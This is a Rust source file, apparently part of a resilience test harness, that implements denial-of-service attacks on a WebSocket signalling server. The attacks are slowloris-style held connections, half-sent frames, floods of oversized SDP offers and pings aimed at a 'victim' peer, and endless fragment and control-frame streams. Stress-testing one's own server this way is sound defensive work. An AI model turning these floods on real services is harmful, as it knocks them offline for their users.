//! The attacks.

use std::net::SocketAddr;
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};

use anyhow::Result;
use serde_json::json;
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::TcpStream;
use tokio::task::JoinSet;
use tokio_util::sync::CancellationToken;

use crate::raw::{ATTACKER, connect, frame, join, text, upgrade};

/// Connections that are opened at the same moment.
const AT_ONCE: usize = 64;

/// What is done to the process.
#[derive(Clone, Copy)]
pub(crate) enum Attack {
    Nothing,
    SlowReaders,
    SilentConnections,
    SilentSockets,
    HalfMessages,
    BytesFromTheLobby,
    BytesThatPass,
    Pings,
    Offers,
    Fragments,
    ControlFrames,
}

/// What a run tells of itself; `None` where the victim tells.
type Note = Option<String>;

impl Attack {
    pub(crate) const ALL: [Self; 11] = [
        Self::Nothing,
        Self::SlowReaders,
        Self::SilentConnections,
        Self::SilentSockets,
        Self::HalfMessages,
        Self::BytesFromTheLobby,
        Self::BytesThatPass,
        Self::Pings,
        Self::Offers,
        Self::Fragments,
        Self::ControlFrames,
    ];

    pub(crate) const fn name(self) -> &'static str {
        match self {
            Self::Nothing => "nothing",
            Self::SlowReaders => "slow-readers",
            Self::SilentConnections => "silent-connections",
            Self::SilentSockets => "silent-sockets",
            Self::HalfMessages => "half-messages",
            Self::BytesFromTheLobby => "bytes",
            Self::BytesThatPass => "bytes-that-pass",
            Self::Pings => "pings",
            Self::Offers => "offers",
            Self::Fragments => "fragments",
            Self::ControlFrames => "control-frames",
        }
    }

    pub(crate) const fn title(self) -> &'static str {
        match self {
            Self::Nothing => "none",
            Self::SlowReaders => "4,130 ask for the largest file three times and read nothing",
            Self::SilentConnections => "4,300 connections that say nothing",
            Self::SilentSockets => "8,000 sockets without a hello",
            Self::HalfMessages => "2,000 sockets with 63,000 bytes of an unfinished hello",
            Self::BytesFromTheLobby => "three in the lobby send the victim 47 KB at a time",
            Self::BytesThatPass => "three in the lobby send the victim 8 KB at a time",
            Self::Pings => "three in the lobby ask the victim's page whether it is there",
            Self::Offers => "one in the lobby offers a new connection again and again",
            Self::Fragments => "two messages that never end, in empty parts",
            Self::ControlFrames => "two sockets full of WebSocket pings",
        }
    }

    pub(crate) async fn run(
        self,
        server: SocketAddr,
        victim: String,
        stop: CancellationToken,
    ) -> Result<Note> {
        let to_victim = |signal: serde_json::Value| {
            json!({ "type": "signal", "to": victim, "signal": signal }).to_string()
        };
        match self {
            Self::Nothing => Ok(None),
            Self::SlowReaders => {
                let file = largest_file(server).await?;
                let ask = format!("GET {file} HTTP/1.1\r\nHost: localhost\r\n\r\n").repeat(3);
                hold(4_130, server, stop, Kind::Connection(ask)).await
            }
            Self::SilentConnections => {
                hold(4_300, server, stop, Kind::Connection(String::new())).await
            }
            Self::SilentSockets => hold(8_000, server, stop, Kind::Socket(Vec::new())).await,
            Self::HalfMessages => {
                let mut half = frame(0x81, &[b'x'; 64_000]);
                half.truncate(63_000);
                hold(2_000, server, stop, Kind::Socket(half)).await
            }
            Self::BytesFromTheLobby | Self::BytesThatPass => {
                // The largest there is, and one of which a budget is used up to its end.
                let is_largest = matches!(self, Self::BytesFromTheLobby);
                let bytes = if is_largest { 47_000 } else { 8_000 };
                let signal = json!({
                    "kind": "description", "connection": 1, "sdpType": "offer",
                    "sdp": "s".repeat(bytes),
                });
                flood(3, server, stop, &[text(&to_victim(signal))]).await
            }
            Self::Pings => {
                let ping = text(&to_victim(json!({ "kind": "ping" })));
                flood(3, server, stop, &[ping]).await
            }
            Self::Offers => {
                let offers: Vec<_> = (1..=400)
                    .map(|number| {
                        let signal = json!({
                            "kind": "description", "connection": 1_000_000 + number,
                            "sdpType": "offer", "sdp": "v=0",
                        });
                        text(&to_victim(signal))
                    })
                    .collect();
                flood(1, server, stop, &offers).await
            }
            Self::Fragments => {
                let part = frame(0x00, b"").repeat(1_000);
                flood(2, server, stop, &[frame(0x01, b""), part]).await
            }
            Self::ControlFrames => flood(2, server, stop, &[frame(0x89, b"").repeat(1_000)]).await,
        }
    }
}

/// What is held open.
#[derive(Clone)]
enum Kind {
    /// A connection on which this is asked.
    Connection(String),
    /// A socket on which this is sent.
    Socket(Vec<u8>),
}

/// Opens `count` of them as fast as it goes, opens new ones for those that are closed, and reads
/// nothing.
async fn hold(
    count: usize,
    server: SocketAddr,
    stop: CancellationToken,
    kind: Kind,
) -> Result<Note> {
    let opened = Arc::new(AtomicUsize::new(0));
    let mut tasks = JoinSet::new();
    for lane in 0..AT_ONCE {
        let (kind, opened, stop) = (kind.clone(), Arc::clone(&opened), stop.clone());
        tasks.spawn(async move {
            let mut held = Vec::new();
            for _ in (lane..count).step_by(AT_ONCE) {
                if stop.is_cancelled() {
                    break;
                }
                if let Ok(stream) = open(server, &kind).await {
                    opened.fetch_add(1, Ordering::Relaxed);
                    held.push(stream);
                }
            }
            stop.cancelled().await;
            drop(held);
        });
    }
    tasks.join_all().await;
    Ok(Some(format!("{} opened", opened.load(Ordering::Relaxed))))
}

async fn open(server: SocketAddr, kind: &Kind) -> Result<TcpStream> {
    match kind {
        Kind::Connection(ask) => {
            let mut stream = connect(ATTACKER, server, Some(2_048)).await?;
            stream.write_all(ask.as_bytes()).await?;
            Ok(stream)
        }
        Kind::Socket(bytes) => {
            let mut stream = upgrade(ATTACKER, server, None).await?;
            stream.write_all(bytes).await?;
            Ok(stream)
        }
    }
}

/// `count` people in the lobby who send these frames, the last one for ever, as fast as it goes.
/// Whoever is closed comes back.
async fn flood(
    count: usize,
    server: SocketAddr,
    stop: CancellationToken,
    frames: &[Vec<u8>],
) -> Result<Note> {
    let mut tasks = JoinSet::new();
    for number in 0..count {
        let (stop, frames) = (stop.clone(), frames.to_vec());
        tasks.spawn(async move {
            let name = format!("Mallory {number}");
            while !stop.is_cancelled() {
                // Refused or closed: the next try follows.
                let _ = stop
                    .run_until_cancelled(send_all(server, &name, &frames))
                    .await;
                tokio::time::sleep(std::time::Duration::from_millis(50)).await;
            }
        });
    }
    tasks.join_all().await;
    Ok(None)
}

async fn send_all(server: SocketAddr, name: &str, frames: &[Vec<u8>]) -> Result<()> {
    let (stream, _) = join(ATTACKER, server, name, "lobby", None).await?;
    let (mut reading, mut writing) = stream.into_split();
    let sending = async {
        for frame in frames {
            writing.write_all(frame).await?;
        }
        while let Some(last) = frames.last() {
            writing.write_all(last).await?;
        }
        anyhow::Ok(())
    };
    let mut space = vec![0; 64 * 1024];
    let hearing = async {
        while reading.read(&mut space).await? > 0 {}
        anyhow::Ok(())
    };
    tokio::select! {
        ended = sending => ended,
        ended = hearing => ended,
    }
}

/// The address of the largest file among the page and what it names.
async fn largest_file(server: SocketAddr) -> Result<String> {
    let page = fetch(server, "/").await?;
    let mut largest = (page.len(), "/".to_owned());
    for part in page.split(['"', '\'']) {
        if part.starts_with("/assets/") || part.starts_with("./assets/") {
            let path = part.trim_start_matches('.').to_owned();
            let length = fetch(server, &path).await?.len();
            largest = largest.max((length, path));
        }
    }
    Ok(largest.1)
}

async fn fetch(server: SocketAddr, path: &str) -> Result<String> {
    let mut stream = connect(ATTACKER, server, None).await?;
    let request = format!(
        "GET {path} HTTP/1.1\r\nHost: localhost\r\nAccept: */*\r\nConnection: close\r\n\r\n"
    );
    stream.write_all(request.as_bytes()).await?;
    let mut answer = Vec::new();
    stream.read_to_end(&mut answer).await?;
    Ok(String::from_utf8_lossy(&answer).into_owned())
}
